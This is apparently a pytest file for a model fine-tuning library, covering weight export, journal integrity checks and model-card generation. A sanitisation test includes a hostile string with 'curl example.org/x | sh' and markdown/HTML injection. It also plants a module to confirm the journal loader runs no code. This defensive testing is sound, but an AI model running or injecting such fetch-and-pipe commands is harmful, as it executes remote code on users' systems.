"""Export and evaluate: the weights of any step, from a run's directory or its journal alone."""

from __future__ import annotations

import json
import pkgutil
import re
import shutil
import subprocess
import tracemalloc
import zlib
from dataclasses import replace

import pytest
import torch
import yaml
from commands import assert_one_error, run_forked, run_forked_well
from own_data import own_values, write_chat_model
from run_ends import STEP, digest_after, results_of
from transformers import AutoModelForCausalLM

from lezo_ds.checkpoints.snapshots import read_manifest
from lezo_ds.config import load_config
from lezo_ds.errors import JournalError, UserError
from lezo_ds.journal import encode_journal, read_journal
from lezo_ds.runs import export as exporting
from lezo_ds.runs.export import own_texts, read_file
from lezo_ds.runs.model_card import model_card
from lezo_ds.runs.opening import restore
from lezo_ds.runs.records import read_run
from lezo_ds.zo.records import StepRecord

pytestmark = pytest.mark.distributed


@pytest.fixture(scope="module")
def finished(recipe, tmp_path_factory):
    """A finished run in bf16 that keeps its last two snapshots, of steps 4 and 8."""
    run_dir = tmp_path_factory.mktemp("finished") / "run"
    run_forked_well(["--config", recipe, f"run_dir={run_dir}", "model.dtype=bf16"])
    return run_dir


@pytest.fixture(scope="module")
def journal(finished):
    file = finished.parent / "run.lezo"
    run_forked_well(["--run", finished, "--journal", file], program="export")
    return file


def export(*arguments, runner=run_forked_well, **options):
    return runner(list(arguments), program="export", **options)


def test_an_exported_model_scores_as_its_run_and_keeps_its_dtype(finished, recipe, tmp_path):
    results = results_of(finished)
    export("--run", finished, "--out", tmp_path / "model")
    assert read_manifest(tmp_path / "model")["digest"] == results["weights_digest"]
    data = [f"data.{name}" for name in (f"path={recipe.parent / 'data'}", "num_test=13")]
    score = ["--model", tmp_path / "model", "--json", *data]
    of_model = json.loads(run_forked_well(score, program="evaluate").out)
    assert (of_model["score"], of_model["num_examples"]) == (results["test"], 13)
    assert AutoModelForCausalLM.from_pretrained(tmp_path / "model").dtype == torch.bfloat16
    assert not (tmp_path / "model" / "low_bits").exists()
    assert weights_sha256(tmp_path / "model") in (tmp_path / "model" / "README.md").read_text()


def test_no_key_that_decides_the_weights_changes_an_export_or_an_evaluation(finished, tmp_path):
    run = ["--run", finished, "--step", "2"]
    for program, words in (("export", ["--out", tmp_path / "model"]), ("evaluate", ["--json"])):
        refused = run_forked([*run, *words, "zo.noise_rank=1"], program=program)
        assert_one_error(refused, 2, "zo.noise_rank of run", "is 0 and cannot be 1")
    assert not (tmp_path / "model").exists()


@pytest.mark.parametrize("settings", [None, {"eos_token_id": 1, "top_k": 7}])
def test_generate_of_an_exported_chat_differs_in_the_end_of_a_turn_alone(settings, tmp_path):
    model = write_chat_model(tmp_path / "base")
    config = json.loads((model / "config.json").read_text())
    config |= {"bos_token_id": 5, "pad_token_id": 7, "eos_token_id": 1}
    (model / "config.json").write_text(json.dumps(config))
    (model / "generation_config.json").unlink(missing_ok=True)
    if settings is not None:
        (model / "generation_config.json").write_text(json.dumps(settings))
    values = own_values(model, train=str(tmp_path / "chats.jsonl"), messages="turns")
    (tmp_path / "recipe.yaml").write_text(yaml.safe_dump(values))
    texts = own_texts(load_config(tmp_path / "recipe.yaml", [f"run_dir={tmp_path}"]))
    before = AutoModelForCausalLM.from_pretrained(model).generation_config.to_diff_dict()
    for name, text in texts.items():
        (model / name).write_text(text)
    after = AutoModelForCausalLM.from_pretrained(model).generation_config.to_diff_dict()
    assert list(texts) == ["generation_config.json"]
    assert after.pop("eos_token_id") == [1, 2]
    assert before.pop("eos_token_id") == 1
    before.pop("_from_model_config", None)
    chosen = {name: value for name, value in after.items() if value is not False}
    assert chosen == before


def weights_sha256(model):
    """Return the digest that the card of a model states, from the command that it names."""
    command = ["bash", "-c", "sha256sum *.safetensors | sha256sum"]
    return subprocess.run(command, cwd=model, capture_output=True, text=True).stdout.split()[0]


def test_a_journal_and_the_base_model_give_the_tuned_model_bit_for_bit(
    finished, journal, recipe, tmp_path
):
    base = shutil.copytree(recipe.parent / "model", tmp_path / "base")
    text, config = journal.read_text(), read_journal(journal)[0].config
    assert str(recipe.parent) not in text
    assert (config["data"]["path"], config["seed"]) == ("data", 0)
    assert read_journal(journal)[0].arithmetic["processor"]
    assert str(finished.parent) not in text
    for step, digest in (
        ("best", results_of(finished)["weights_digest"]),
        ("4", digest_after(finished, 4)),
    ):
        arguments = [
            "--journal",
            journal,
            "--step",
            step,
            "--out",
            tmp_path / step,
            f"model.path={base}",
        ]
        done = export(*arguments, num_ranks=2)
        assert "(the same as in the run)" in done.err
        assert read_manifest(tmp_path / step)["digest"] == digest
    third = ["--journal", journal, "--step", "3", f"model.path={base}", "--out"]
    assert_one_error(
        export(*third, tmp_path / "4", runner=run_forked), 2, f"{tmp_path / '4'} exists"
    )
    done = export(*third, tmp_path / "3")
    assert "no digest in the run to compare with" in done.err
    assert read_manifest(tmp_path / "3")["step"] == 3


def rewritten(
    journal, target, change_config=lambda config: config, change_record=lambda record: record
):
    header, records, _ = read_journal(journal)
    header = replace(header, config=change_config(json.loads(json.dumps(header.config))))
    target.write_bytes(encode_journal(header, [change_record(record) for record in records]))
    return target


@pytest.mark.thorough
def test_a_journal_that_was_cut_short_is_refused(journal, recipe, tmp_path):
    lines = journal.read_bytes().splitlines(keepends=True)
    of_step_5 = b'{"kind":"step","step":5,'
    begins_step_5 = [line.startswith(of_step_5) for line in lines]
    cuts = {
        "whole lines": lines[: begins_step_5.index(True)],
        "half a line": [*lines[:-1], lines[-1][:-20]],
    }
    base = f"model.path={recipe.parent / 'model'}"
    for name, kept in cuts.items():
        cut = tmp_path / f"{name}.lezo"
        cut.write_bytes(b"".join(kept))
        num_steps = sum(line.startswith(b'{"kind":"step"') for line in kept)
        message = f"{cut} was cut short: it ends after {num_steps} steps"
        refused = export("--journal", cut, "--out", tmp_path / name, base, runner=run_forked)
        assert_one_error(refused, 3, message, "copy it again")


def test_a_journal_of_another_table_of_parameters_is_refused(journal, recipe, tmp_path):
    header, records, _ = read_journal(journal)
    forged = tmp_path / "forged.lezo"
    forged.write_bytes(encode_journal(replace(header, parameter_table_hash="0" * 32), records))
    base = f"model.path={recipe.parent / 'model'}"
    refused = export("--journal", forged, "--out", tmp_path / "model", base, runner=run_forked)
    assert_one_error(refused, 2, "is not the base model of the run", "parameters' names")


def test_a_journal_whose_steps_were_changed_does_not_pass_for_the_run(journal, recipe, tmp_path):
    def forge(record):
        is_last = isinstance(record, StepRecord) and record.step == 7
        return replace(record, learning_rate=2e-3) if is_last else record

    forged = rewritten(journal, tmp_path / "forged.lezo", change_record=forge)
    base = f"model.path={recipe.parent / 'model'}"
    arguments = ["--journal", forged, "--step", "last", "--out", tmp_path / "model", base]
    refused = export(*arguments, runner=run_forked)
    assert_one_error(refused, 1, "the weights of step 8 have the digest", "those of the run had")
    assert not (tmp_path / "model").exists()


CODE_KEYS = {
    "data": {"task": "evil:X", "metric": "evil:X"},
    "train": {"objective": "evil:X", "report_to": ["wandb"]},
    "zo": {"estimator": "evil:X", "layer_policy": "evil:X"},
}


def test_a_journal_runs_no_code_and_opens_no_path_that_it_names(journal, recipe, tmp_path):
    def spoil(config):
        for section, values in CODE_KEYS.items():
            config[section] |= values
        config["data"] |= {"train": "/dev/zero", "path": None}
        return config | {"deepspeed": str(tmp_path / "absent.json"), "partition_size": 3}

    (tmp_path / "evil.py").write_text(f"open({str(tmp_path / 'executed')!r}, 'w')\nX = None\n")
    spoiled = rewritten(journal, tmp_path / "spoiled.lezo", change_config=spoil)
    path = f"{exporting.__file__.rpartition('/lezo_ds/')[0]}:{tmp_path}"
    base = f"model.path={recipe.parent / 'model'}"
    export("--journal", spoiled, "--out", tmp_path / "model", base, PYTHONPATH=path)
    assert read_manifest(tmp_path / "model") is not None
    assert not (tmp_path / "executed").exists()


def with_lines(*bodies):
    content, crc = b"", 0
    for body in bodies:
        crc = zlib.crc32(body, crc)
        content += body[:-1] + b',"crc":"%08x"}\n' % crc
    return content


def test_what_is_malformed_or_too_large_is_refused_in_little_memory(journal, recipe, tmp_path):
    whole = journal.read_bytes()
    first = re.sub(rb',"crc":"\w+"}$', b"}", whole.splitlines()[0])
    header = json.loads(first)
    evaluation = b'{"kind":"evaluation","step":0,"split":"dev","loss":1%s,"metrics":{}}' % (
        b"0" * 400
    )

    def with_header(**changes):
        return with_lines(json.dumps(header | changes, separators=(",", ":")).encode())

    def with_keys(section, **changes):
        return with_header(config=header["config"] | {section: header["config"][section] | changes})

    step = next(json.loads(line) for line in whole.splitlines() if STEP.encode() in line)
    del step["crc"]

    def with_steps(*changes, end=b""):
        changed = [
            step | {"step": number, "key": 1} | change for number, change in enumerate(changes)
        ]
        return (
            with_lines(
                first, *(json.dumps(each, separators=(",", ":")).encode() for each in changed)
            )
            + end
        )

    files = {
        "empty": b"",
        "flipped": whole[:3000] + bytes([whole[3000] ^ 1]) + whole[3001:],
        "deep": with_lines(b'{"kind":"header","config":' + b"[" * 50_000 + b"}"),
        "large number": with_lines(first, evaluation),
        "types": with_header(config=[1], libraries=[], model_fingerprint=[]),
        "model config": with_header(config=header["config"] | {"model_config": [1]}),
        "digests": with_header(config=header["config"] | {"digests": [1]}),
        "rank": with_keys("peft", kind="lora", lora_rank=2**16),
        "prefix": with_keys("peft", kind="prefix", prefix_length=2**62),
        "batch": with_keys("train", batch_size=2**32),
        "directions": with_keys("zo", directions=2**40),
        "more gradients than directions": with_steps({}, {"gradients": [1.0] * 2}),
        "more blocks than the model": with_steps({"dropped": [0, 99]}),
        "a block twice": with_steps({"dropped": [1, 1]}),
        "more weights than blocks": with_steps({"weights": [1.0] * 7}),
        "a weight for each block alone": with_steps({"weights": [1.0] * 4}),
        "a truth value as a gradient": with_steps({"gradients": [True]}),
        "a truth value as a loss": with_steps({"loss": False}),
        "a word as a truth value": with_steps({"applied": "no"}),
        "other types": with_steps({"dropped": "12"}),
        "long names": with_keys(
            "model_config", **{"k" * 100_000: {str(n): 0 for n in range(10_000)}}
        ),
        "many lists": with_lines(first, b'{"kind":"step","x":[' + b"[]," * 80_000 + b"[]]}"),
        "many steps": with_steps(*[{}] * 10_000, end=b"\n"),
        "long line": with_lines(b'{"kind":"header","config":{"a":"%s"}}' % (b"x" * (2 << 20))),
        "long file": whole + b"\n" * (65 << 20),
        "newer": with_header(format=2),
    }
    overrides = [f"model.path={recipe.parent / 'model'}"]
    assert read_file(journal, overrides).num_steps == 8
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
        tracemalloc.start()
        with pytest.raises((UserError, JournalError)) as refusal:
            read_file(tmp_path / name, overrides)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 13 << 20, name
        assert "\n" not in str(refusal.value), name


def test_a_run_is_not_restored_without_the_adapter_that_it_started_from(finished):
    run = read_run(finished)
    started = replace(run.header, config=run.header.config | {"adapter": "0" * 32})
    with pytest.raises(UserError, match="is not the adapter that the run started from"):
        restore(replace(run, journal=run.journal._replace(header=started)), 0)


def card_of(config, **options):
    return model_card(
        config, "a title", "It was made.", [("test", "step 0", "x")], "sha", **options
    )


def test_a_card_loads_an_adapter_into_its_base_model(finished):
    config = read_run(finished).config
    base = 'AutoModelForCausalLM.from_pretrained("model")'
    assert f'`PeftModel.from_pretrained({base}, "DIR")`' in card_of(config, kind="lora")
    function = pkgutil.resolve_name("lezo_ds.forward.adapters.load_prefix")  # peft reads no prefix
    line = f'model = {base}; lezo_ds.forward.adapters.{function.__name__}(model, Path("DIR"))'
    assert f"`{line}`" in card_of(config, kind="prefix")
    model = config.model.model_copy(update={"path": "owner/name@v1.2"})
    text = card_of(config.model_copy(update={"model": model}), kind="lora")
    assert 'from_pretrained("owner/name", revision="v1.2"), "DIR")`' in text
    other = card_of(config, opened_by="AutoModelForMultimodalLM")
    assert '`AutoModelForMultimodalLM.from_pretrained("DIR")`' in other
    assert "AutoModelForCausalLM" not in other
    assert "pipeline_tag" not in other


LICENSED = """---
license: other
license_name: some-license
license_link: https://example.org/license
tags: [x]
---
# A base model
"""


def header_of(card):
    _, header, _ = card.split("---\n", 2)
    return yaml.safe_load(header)


def test_the_header_of_a_card_has_what_the_hub_reads(finished, tmp_path):
    config = read_run(finished).config
    sections = {
        "model": {"path": "owner/name@main"},
        "data": {"path": None, "train": "some/data/config:train", "test": "some/data:test"},
        "peft": {"kind": "lora", "lora_rank": 20},
    }
    changed = {
        name: getattr(config, name).model_copy(update=changes) for name, changes in sections.items()
    }
    (tmp_path / "README.md").write_text(LICENSED)
    card = card_of(config.model_copy(update=changed), kind="lora", license_of=tmp_path)
    assert header_of(card) == {
        "base_model": "owner/name",
        "datasets": "some/data",
        "library_name": "peft",
        "license": "other",
        "license_name": "some-license",
        "license_link": "https://example.org/license",
        "pipeline_tag": "text-generation",
        "tags": ["lezo_ds"],
    }
    options = "--enable-lora --max-lora-rank 32 --lora-modules tuned=DIR"
    assert f"`vllm serve owner/name {options}`" in card


@pytest.mark.parametrize(
    "text",
    [
        "# No header",
        "---\nlicense: [\n---\n",
        "---\n- 1\n---\n",
        "---\n---\n# An empty header",
        "# A title\n---\nsee the license\n---\n",
    ],
)
def test_a_card_of_the_base_without_a_license_leaves_it_out(finished, tmp_path, text):
    (tmp_path / "README.md").write_text(text)
    header = header_of(card_of(read_run(finished).config, license_of=tmp_path))
    assert header == {
        "library_name": "transformers",
        "pipeline_tag": "text-generation",
        "tags": ["lezo_ds"],
    }


HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"


def test_no_string_of_a_run_becomes_markup_in_its_card(finished, tmp_path):
    run_forked_well(["--run", finished, "--out", tmp_path / "model"], program="export")
    text = (tmp_path / "model" / "README.md").read_text()
    assert "# model, fine-tuned on sst2\n" in text
    assert re.search(r"trained it with LeZO, .* after \d of 8 steps.", text)
    assert f"prints\n\n    {weights_sha256(tmp_path / 'model')}" in text
    assert f"\n| test | step 0 | accuracy {results_of(finished)['zero_shot']:.4f}" in text
    config = read_run(finished).config
    model = config.model.model_copy(update={"path": HOSTILE})
    hostile = model_card(
        config.model_copy(update={"model": model}), HOSTILE, HOSTILE, [(HOSTILE, "", "")], "digest"
    )
    assert "curl" in hostile
    assert not re.search(r"\]\(http|<img|```|\| sh\b", hostile)
